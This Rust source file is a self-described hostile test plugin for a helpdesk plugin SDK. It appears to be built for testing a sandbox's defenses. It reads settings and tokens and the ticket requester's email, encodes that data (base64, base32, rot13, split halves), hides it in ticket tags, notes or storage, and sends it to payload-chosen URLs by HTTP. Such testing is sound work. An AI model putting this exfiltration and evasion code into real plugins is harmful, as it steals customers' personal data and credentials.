//! secret-thief: a hostile test plugin driven by its action payload:
//!
//! ```json
//! {"read_settings": true, "read_requester": true,
//!  "requests": [{"method": "POST", "url": "...", "headers": [["k", "v"]],
//!                "body": "... {email} ... {subject} ...", "encode": "base64"}]}
//! ```
//!
//! `"for": "<label>"` addresses only the installation whose `label` setting matches.
//! Storage laundering: `"store": "tag" | "note" | "custom"` writes the email (base32,
//! lowercase, so it fits a tag) to the action's ticket; `"read_back": true` reads the
//! ticket's tags, custom fields and comments and fills `{stored}` with them.
//!
//! `{email}` (the requester's email, read through the broker when `read_requester` is
//! set, else the payload's own `"email"`, which the broker never handed out) and
//! `{subject}` in a body, header or URL are replaced after `encode`: `plain`, `spaced`,
//! `dashed`, `base64`, `hex`, `url`, `rot13`, `reversed`, `base32`. `{email1}` and
//! `{email2}` are the email's two halves, for values split over requests or parts.
//! The summary has one line per step: `settings.all=…`, `settings.get=…`, then
//! `#<i> status=<n> body=<text>` (line breaks shown as ` | `) or
//! `#<i> error=<kind>: <message>`.

use airlock_sdk::http::Request;
use airlock_sdk::{Error, Event, Json, Outcome, Plugin, helpdesk, kv, settings};

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn base32(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::new();
    let (mut buffer, mut bits) = (0u32, 0);
    for &b in bytes {
        buffer = buffer << 8 | b as u32;
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(ALPHABET[(buffer >> bits & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(ALPHABET[(buffer << (5 - bits) & 31) as usize] as char);
    }
    out
}

fn encode(value: &str, how: &str) -> String {
    match how {
        "spaced" => value
            .chars()
            .map(|c| c.to_string())
            .collect::<Vec<_>>()
            .join(" "),
        "dashed" => value.replace(['@', '.'], "-"),
        "base64" => base64(value.as_bytes()),
        "hex" => value.bytes().map(|b| format!("{b:02x}")).collect(),
        "rot13" => value
            .chars()
            .map(|c| match c {
                'a'..='z' => ((c as u8 - b'a' + 13) % 26 + b'a') as char,
                'A'..='Z' => ((c as u8 - b'A' + 13) % 26 + b'A') as char,
                _ => c,
            })
            .collect(),
        "reversed" => value.chars().rev().collect(),
        "base32" => base32(value.as_bytes()),
        "url" => value
            .bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'0'..=b'9' => (b as char).to_string(),
                _ => format!("%{b:02X}"),
            })
            .collect(),
        _ => value.to_string(),
    }
}

fn cut(text: &str, max: usize) -> &str {
    let mut end = text.len().min(max);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Runs one kv operation from the payload; `ok=<result>` or `error=<kind>`.
fn kv_op(op: &Json) -> String {
    let key = op["key"].as_str().unwrap_or("");
    let value = op["value"].as_str().unwrap_or("").as_bytes();
    let result = match op["op"].as_str().unwrap_or("") {
        "set" => kv::set(key, value).map(|()| "set".to_string()),
        // `size` bytes of `x`: for quota tests.
        "fill" => kv::set(key, &vec![b'x'; op["size"].as_u64().unwrap_or(0) as usize]).map(|()| "set".to_string()),
        "get" => kv::get_string(key).map(|v| v.unwrap_or_else(|| "none".into())),
        "delete" => kv::delete(key).map(|()| "deleted".to_string()),
        "exists" => kv::exists(key).map(|b| b.to_string()),
        "increment" => kv::increment(key, op["delta"].as_i64().unwrap_or(1)).map(|n| n.to_string()),
        "cas" => kv::compare_and_swap(key, op["expected"].as_str().map(str::as_bytes), value).map(|b| b.to_string()),
        // Sets keys `<key>0` … `<key>{n-1}`.
        "set-many" => (0..op["n"].as_u64().unwrap_or(0))
            .try_for_each(|i| kv::set(&format!("{key}{i}"), b"1"))
            .map(|()| "set".to_string()),
        "count-keys" => kv::keys().try_fold(0u64, |n, k| k.map(|_| n + 1)).map(|n| n.to_string()),
        other => return format!("error=unknown op {other}"),
    };
    match result {
        Ok(v) => format!("ok={v}"),
        Err(e) => format!("error={}", e.kind()),
    }
}

struct SecretThief;

impl Plugin for SecretThief {
    fn handle(event: Event) -> Result<Outcome, Error> {
        let Event::Action(action) = event else {
            return Ok(Outcome::new("ignored"));
        };
        let payload = Json::parse(&action.payload)?;
        // `"for": "<label>"` addresses one installation: the one whose `label` setting
        // matches (each installation of the thief has its own).
        if let Some(label) = payload["for"].as_str()
            && settings::get_raw("label").as_deref() != Some(&format!("\"{label}\""))
        {
            return Ok(Outcome::new("ignored"));
        }
        let mut lines = Vec::new();
        if payload["read_settings"].as_bool() == Some(true) {
            lines.push(format!("settings.all={}", settings::all_raw()));
            lines.push(format!(
                "settings.get={}",
                settings::get_raw("token").unwrap_or_else(|| "none".into())
            ));
        }
        let mut email = payload["email"].as_str().unwrap_or_default().to_string();
        if payload["read_requester"].as_bool() == Some(true)
            && let Some(id) = action.ticket.requester_id.as_deref()
        {
            email = helpdesk::get_user(id)?.email.unwrap_or_default();
        }
        let subject = action.ticket.subject.clone().unwrap_or_default();
        let ticket_id = action.ticket.id.clone();
        let laundered = base32(email.as_bytes()).to_lowercase();
        match payload["store"].as_str() {
            Some("tag") => helpdesk::add_tags(&ticket_id, &[cut(&laundered, 64)])?,
            Some("note") => helpdesk::add_internal_note(&ticket_id, &laundered)?,
            Some("custom") => helpdesk::set_custom_field(&ticket_id, "escalation", &laundered)?,
            Some("kv") => kv::set("stash", laundered.as_bytes())?,
            _ => {}
        }
        for (i, op) in payload["kv"].as_array().unwrap_or(&[]).iter().enumerate() {
            lines.push(format!("kv#{i} {}", kv_op(op)));
        }
        let mut stored = String::new();
        if payload["read_back"].as_bool() == Some(true) {
            let ticket = helpdesk::get_ticket(&ticket_id)?;
            stored.push_str(&ticket.tags.unwrap_or_default().join(" "));
            for custom in ticket.custom_fields {
                stored.push(' ');
                stored.push_str(&custom.value);
            }
            for comment in helpdesk::list_comments(&ticket_id, 10)? {
                stored.push(' ');
                stored.push_str(&comment.body.unwrap_or_default());
            }
            if let Ok(Some(stash)) = kv::get_string("stash") {
                stored.push(' ');
                stored.push_str(&stash);
            }
        }
        for (i, r) in payload["requests"]
            .as_array()
            .unwrap_or(&[])
            .iter()
            .enumerate()
        {
            let how = r["encode"].as_str().unwrap_or("plain");
            let half = (0..=email.len() / 2)
                .rev()
                .find(|&i| email.is_char_boundary(i))
                .unwrap_or(0);
            let fill = |s: &str| {
                s.replace("{email}", &encode(&email, how))
                    .replace("{email1}", &encode(&email[..half], how))
                    .replace("{email2}", &encode(&email[half..], how))
                    .replace("{subject}", &encode(&subject, how))
                    .replace("{stored}", &stored)
            };
            let mut req = Request::new(
                r["method"].as_str().unwrap_or("GET"),
                &fill(r["url"].as_str().unwrap_or("")),
            );
            for h in r["headers"].as_array().unwrap_or(&[]) {
                req = req.header(
                    &fill(h[0].as_str().unwrap_or("")),
                    &fill(h[1].as_str().unwrap_or("")),
                );
            }
            req = req.body(fill(r["body"].as_str().unwrap_or("")).into_bytes());
            let line = match req.send() {
                Ok(resp) => format!(
                    "#{i} status={} body={}",
                    resp.status,
                    cut(
                        &String::from_utf8_lossy(&resp.body)
                            .replace('\r', "")
                            .replace('\n', " | "),
                        600
                    )
                ),
                Err(e) => format!("#{i} error={}: {}", e.kind(), cut(e.message(), 300)),
            };
            lines.push(line);
        }
        let summary = lines.join("\n");
        Ok(Outcome::new(cut(&summary, 4000).to_string()))
    }
}

airlock_sdk::export_plugin!(SecretThief);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodings() {
        assert_eq!(base64(b"vera"), "dmVyYQ==");
        assert_eq!(encode("a@b.c", "hex"), "6140622e63");
        assert_eq!(encode("a@b.c", "url"), "a%40b%2Ec");
        assert_eq!(encode("ab", "spaced"), "a b");
        assert_eq!(encode("a@b.c", "dashed"), "a-b-c");
        assert_eq!(encode("Vera", "rot13"), "Iren");
        assert_eq!(encode("ab", "reversed"), "ba");
        assert_eq!(base32(b"foobar"), "MZXW6YTBOI");
    }
}
